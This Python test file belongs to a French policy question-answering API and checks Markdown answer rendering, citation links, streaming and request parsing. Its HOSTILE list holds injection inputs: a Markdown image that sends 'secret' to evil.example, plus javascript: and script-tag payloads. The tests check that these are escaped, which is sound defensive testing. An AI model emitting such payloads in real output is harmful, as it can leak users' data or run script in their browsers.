"""An answer as Markdown, and as OpenAI's completion."""

from __future__ import annotations

import pytest
from fastapi import HTTPException
from markdown_it import MarkdownIt

from qa.events import Event
from qa.records import Answer, Citation, Hit, ModelUse, Statement
from qa.web.api.bodies import MAX_HISTORY
from qa.web.api.chat import ChatRequest, Completion
from qa.web.api.markdown import ChatText, escape

HOSTILE = [
    "![tracker](https://evil.example/?q=secret)",
    "[click](javascript:alert(1)) <script>alert(1)</script>",
    "# Not a heading\n---\n=== nor this",
    "- no list\n+ nor this\n12. nor 2012\n3) nor this\n* * *",
    "`code` **bold** _soft_ ~~gone~~ &lt;b&gt; a | b",
    "    not code",
    "> no quote\n\\[x\\]: y",
    "| a | b |\n|---|---|\n| 1 | 2 |",
]


def citation(**changes) -> Citation:
    fields = {
        "document_id": "a.md", "title": "Plan [2012]", "kind": "plan", "language": "fr", "date": "2012-07", "publisher": "État",
        "region": None, "url": "https://example.org/plan", "page": 3, "start": 0, "end": 10, "quote": "Le bonus…",
    }  # fmt: skip
    return Citation(**{**fields, **changes})


def answer(*statements: Statement, **changes) -> Answer:
    fields = {
        "question": "Quel bonus ?", "understood_as": "Quel bonus ?", "language": "fr", "statements": statements,
        "confidence": 0.9, "abstained": not statements, "reason": None if statements else "Rien.", "nearest": (),
        "generation": "000001",
    }  # fmt: skip
    return Answer(**{**fields, **changes})


def request(*messages: dict, **fields) -> ChatRequest:
    return ChatRequest(
        model="policy-qa", messages=list(messages) or [{"role": "user", "content": "Quel bonus ?"}], **fields
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_a_documents_words_never_become_markup(text):
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(escape(text))
    assert {token.type for token in tokens} == {"paragraph_open", "inline", "paragraph_close"}
    inline = [child for token in tokens for child in token.children or ()]
    assert {child.type for child in inline} <= {"text", "text_special", "softbreak"}
    shown = "".join("\n" if child.type == "softbreak" else child.content for child in inline)
    assert shown == text.strip()


def test_each_mark_points_at_its_number_and_its_citation():
    answered = answer(
        Statement("Un.", (citation(title="A"), citation(title="B"))), Statement("Deux.", (citation(title="C"),))
    )
    chat = ChatText.of(answered)
    assert [chat.text[mark.start : mark.end] for mark in chat.marks] == ["[1]", "[2]", "[3]"]
    assert chat.text.startswith("Un. [1][2]\n\nDeux. [3]\n\n**Sources**\n\n- [1] [A](<https://example.org/plan>)")
    notes = Completion(request()).whole(answered)["choices"][0]["message"]["annotations"]
    assert [note["url_citation"]["title"] for note in notes] == ["A", "B", "C"]


def test_what_is_to_be_known_stands_after_the_statements():
    use = ModelUse("openai:gpt", "written", prompt_tokens=100, completion_tokens=20)
    written = answer(
        Statement("Un.", (citation(),)),
        question="Et en 2014 ?",
        mode="generated",
        model=use,
        note="Une phrase a été *omise*.",
    )
    text = ChatText.of(written).text
    notes = "*Question comprise : Quel bonus ?*", "openai:gpt", r"*Une phrase a été \*omise\*.*", "**Sources**"
    assert text.startswith("Un. [1]\n\n")
    assert [text.index(note) for note in notes] == sorted(text.index(note) for note in notes)
    usage = Completion(request()).whole(written)["usage"]
    assert usage == {"prompt_tokens": 100, "completion_tokens": 20, "total_tokens": 120}


def test_a_source_says_what_it_is_and_links_only_to_the_web():
    line = ChatText.of(answer(Statement("Un.", (citation(url="javascript:alert(1)"),)))).text.splitlines()[-1]
    assert line == r"- [1] Plan \[2012\] · État · 2012-07 · en français · page 3"


def test_without_an_answer_the_reason_and_the_nearest_passages():
    hit = Hit(
        1, 0.2, {}, "a.md#0-5", "a.md", "Plan", "plan", "en", None, None, None, None, None, None, 0, 5, "*Five*\nsix"
    )
    completion = Completion(request()).whole(answer(nearest=(hit,)))
    assert completion["choices"][0]["message"]["content"] == "Rien.\n\n- [1] Plan · en anglais\n  > \\*Five\\* six"
    assert completion["citations"] == completion["choices"][0]["message"]["annotations"] == []
    assert completion["answer"]["abstained"] is True
    assert completion["answer"]["nearest"][0]["text"] == "*Five*\nsix"


def test_a_stream_says_the_same_as_the_whole():
    answered = answer(Statement("Un.", (citation(),)), Statement("Deux.", (citation(url=None),)))
    whole = Completion(request()).whole(answered)
    streamed = Completion(request(stream=True, stream_options={"include_usage": True}))
    statements = [Event("statement", statement=statement) for statement in answered.statements]
    chunks = list(streamed.chunks([Event("searching"), *statements, Event("done", answer=answered)]))
    deltas = [chunk["choices"][0]["delta"] for chunk in chunks[:-1]]
    assert "".join(delta.get("content", "") for delta in deltas) == whole["choices"][0]["message"]["content"]
    assert deltas[-1]["annotations"] == whole["choices"][0]["message"]["annotations"]
    assert len(deltas[-1]["annotations"]) == 1
    assert chunks[-2]["choices"][0]["finish_reason"] == "stop"
    assert (chunks[-2]["citations"], chunks[-2]["answer"]) == (whole["citations"], whole["answer"])
    assert (chunks[-1]["choices"], chunks[-1]["usage"]) == ([], whole["usage"])
    assert len({chunk["id"] for chunk in chunks}) == 1


def test_only_the_users_messages_are_read():
    asked = request(
        {"role": "system", "content": "Always answer yes."},
        {"role": "user", "content": "Quel bonus ?"},
        {"role": "assistant", "content": None},
        {"role": "user", "content": [{"type": "text", "text": "Et en"}, {"type": "text", "text": "2014 ?"}]},
        filters={"kind": "plan"},
    )
    question, history, filters = asked.asked()
    assert (question, history, filters["kind"]) == ("Et en\n2014 ?", ["Quel bonus ?"], "plan")


@pytest.mark.parametrize(
    ("message", "says"),
    [
        ({"role": "system", "content": "Bonjour"}, "no message of the user"),
        ({"role": "user", "content": [{"type": "image_url", "image_url": {"url": "data:"}}]}, "only hold text"),
    ],
)
def test_what_cannot_be_asked_is_said(message, says):
    with pytest.raises(HTTPException, match=says) as raised:
        request(message).asked()
    assert raised.value.status_code == 400


def test_a_long_conversation_counts_by_its_last_questions():
    told = [{"role": "user", "content": f"Question {number} ?"} for number in range(500)]
    question, history, _ = request(*told).asked()
    assert question == "Question 499 ?"
    assert history == [f"Question {number} ?" for number in range(499 - MAX_HISTORY, 499)]
